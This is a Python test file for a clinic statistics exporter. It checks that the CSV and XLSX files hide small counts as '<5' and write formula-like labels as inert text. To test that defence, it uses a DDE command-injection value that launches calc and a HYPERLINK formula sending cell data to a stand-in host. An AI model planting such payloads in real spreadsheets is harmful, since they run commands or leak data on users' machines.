"""The statistics as CSV and XLSX: the same cells as the page, "<5" for every hidden figure,
and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from flask import Flask
from flask_babel import force_locale

from partnercontact.statistics.exports import report_csv, report_xlsx
from partnercontact.statistics.report import NOTHING, WITHHELD, Figure, Measure
from tests.statistics.reports_by_hand import line, report, section

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
NOTE = "<5: fewer than 5, or hidden so that a number under 5 cannot be worked out from the others."
WITHHELD_NOTE = "–*: hidden because a count it depends on is hidden."
HEADER = [
    ["Clinic", "Lindviks mottagning"],
    ["Period", "March 2026"],
    ["Compared with", "February 2026"],
    ["Numbers hidden below", "5"],
    ["<5", NOTE],
    ["–*", WITHHELD_NOTE],
    [],
    ["Section", "Line", "March 2026", "February 2026", "Change"],
]
# What the page shows, row by row; a hidden figure (a 3 behind it) is "<5" everywhere.
CSV_ROWS = [
    ["Consents", "Given", "40", "44", "-4"],
    ["Consents", "Refused", "<5", "12", "<5"],
    ["Consents", "Total", "47", "56", "-9"],
    ["Asked about partner contact", "Share", "68 %", "41 %", "'+27 pp"],
    ["Days to first contact", "Median", "14.5", "–", "–"],
    ["Days to first contact", "Median of few", "–*", "9", "–*"],
]
XLSX_ROWS = [
    ["Consents", "Given", 40, 44, -4],
    ["Consents", "Refused", "<5", 12, "<5"],
    ["Consents", "Total", 47, 56, -9],
    ["Asked about partner contact", "Share", 68, 41, 27],
    ["Days to first contact", "Median", 14.5, "–", "–"],
    ["Days to first contact", "Median of few", "–*", 9, "–*"],
]


@pytest.fixture
def backend() -> str:
    # Exporting a report reads no database: one backend is enough.
    return "sqlite"


@pytest.fixture
def english(app: Flask) -> Iterator[None]:
    with app.test_request_context(), force_locale("en"):
        yield


def _report(**changes):
    consents = section(
        [
            line("given", Figure(40), Figure(44)),
            line("refused", Figure(3, hidden=True), Figure(12)),
            line("total", Figure(47), Figure(56), total=True),
        ]
    )
    share = section(
        [line("share", Figure(67.8), Figure(41))],
        measure=Measure.SHARE,
        key="asked",
        title="Asked about partner contact",
    )
    days = section(
        [
            line("median", Figure(14.5), NOTHING),
            line("median of few", WITHHELD, Figure(9), label="Median of few"),
        ],
        measure=Measure.DAYS,
        key="timing",
        title="Days to first contact",
    )
    return report(consents, share, days, **changes)


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _sheet(body: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Statistics"]  # in English, as every word of the file
    return workbook, workbook["Statistics"]


def _values(sheet) -> list[list[object]]:
    """The sheet's rows without their empty trailing cells."""
    rows = []
    for row in sheet.iter_rows(values_only=True):
        cells = list(row)
        while cells and cells[-1] is None:
            cells.pop()
        rows.append(cells)
    return rows


def test_the_csv_has_the_header_and_the_figures_as_the_page_shows_them(english) -> None:
    assert _csv_rows(report_csv(_report())) == HEADER + CSV_ROWS


def test_the_xlsx_has_the_same_cells_with_shown_figures_as_numbers(english) -> None:
    workbook, sheet = _sheet(report_xlsx(_report()))
    expected_header = [
        [row[0], 5] if row and row[0] == "Numbers hidden below" else row for row in HEADER
    ]
    assert _values(sheet) == expected_header + XLSX_ROWS
    first = len(HEADER) + 1
    # Numbers keep the page's look: a share in per cent, a change with its sign.
    assert sheet.cell(first + 3, 3).number_format == '0" %"'
    assert sheet.cell(first + 3, 5).number_format == '+0" pp";-0" pp";+0" pp"'
    assert sheet.cell(first, 5).number_format == "+0;-0;+0"
    assert sheet.cell(first + 1, 3).data_type == "s"
    assert all(sheet.cell(len(HEADER), column).font.b for column in range(1, 6))
    assert sheet.column_dimensions["A"].width >= len("Asked about partner contact")
    assert workbook.properties.creator == "partnercontact"
    assert workbook.properties.lastModifiedBy is None


def test_no_export_carries_a_hidden_number(english) -> None:
    # Every shown number is free of the digit 3, the hidden one is 3.
    text = report_csv(_report())
    _, sheet = _sheet(report_xlsx(_report()))
    cells = [str(cell) for row in _values(sheet) for cell in row]
    assert "3" not in text
    assert not [cell for cell in cells if "3" in cell]
    assert text.count("<5") == 1 + 1 + 2  # the note's name, its text, and the two cells


def test_a_label_that_looks_like_a_formula_is_text(english) -> None:
    chosen = section([line("given", Figure(40), Figure(44), label=FORMULA)], title="@SUM(1)")
    hostile = report(chosen, clinic="+cmd|' /C calc'!A0")
    rows = _csv_rows(report_csv(hostile))
    assert rows[0][1] == "'+cmd|' /C calc'!A0"
    assert rows[-1][:2] == ["'@SUM(1)", "'" + FORMULA]
    body = report_xlsx(hostile)
    _, sheet = _sheet(body)
    cell = sheet.cell(len(HEADER) + 1, 2)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)
    assert sheet.cell(1, 2).value == "+cmd|' /C calc'!A0"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
